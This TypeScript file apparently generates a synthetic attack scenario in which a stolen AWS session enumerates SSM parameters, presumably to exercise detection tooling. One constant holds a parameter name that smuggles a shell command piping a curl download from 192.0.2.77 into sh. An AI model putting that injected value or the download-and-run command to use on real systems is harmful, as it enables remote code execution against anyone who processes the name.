import { MINUTE, SECOND } from "../../util/duration.ts";
import { deniedRead, getParameter } from "../calls/read-calls.ts";
import { parameterArn } from "../cast/arns.ts";
import { sessionAt, stolen } from "../cast/session.ts";
import type { Attack, Scene } from "./attack.ts";
import { attackOf, strangerAddress, type Theft } from "./steal.ts";

const NAMES = 110;
const LASTS = 42 * MINUTE;
/** A name that would hurt whoever pasted it into a shell unquoted. */
const HOSTILE_NAME = "/prod/x'; curl http://192.0.2.77/i.sh | sh #";

/** The leaked long-term key of the poller: one GetParameter a name, spread evenly over the better part of an hour. */
export function enumerationBurst(scene: Scene): Attack {
  const account = scene.accounts[0];
  const actor = account?.poller;
  if (account === undefined || !actor) throw new Error("bug: the first account has a poller");
  const start = scene.at(3, 13, 5);
  const agent = "Boto3/1.28.11 Python/3.11.2 Linux/6.5.0-kali3-amd64 Botocore/1.31.11";
  const session = stolen(sessionAt(actor, start, scene.seed), strangerAddress(77), agent);
  const names = scene.choose.sample(account.parameters, NAMES);
  const thefts = names.map((name, i): Theft => {
    const time = start + Math.floor((i * LASTS) / NAMES) + scene.choose.int(10) * SECOND;
    const call = getParameter(account, name, true);
    if (i % 16 !== 11) return { time, call, got: [name] };
    return { time, call: deniedRead(call, session.arn, parameterArn(account.regions[0], account.id, name)), got: [] };
  });
  const missing = getParameter(account, HOSTILE_NAME, true);
  const error = { code: "ParameterNotFound", message: "" };
  return attackOf("ssm-enumeration-burst", account, session, [
    ...thefts,
    { time: start + LASTS, call: { ...missing, resources: [], error }, got: [] },
  ]);
}
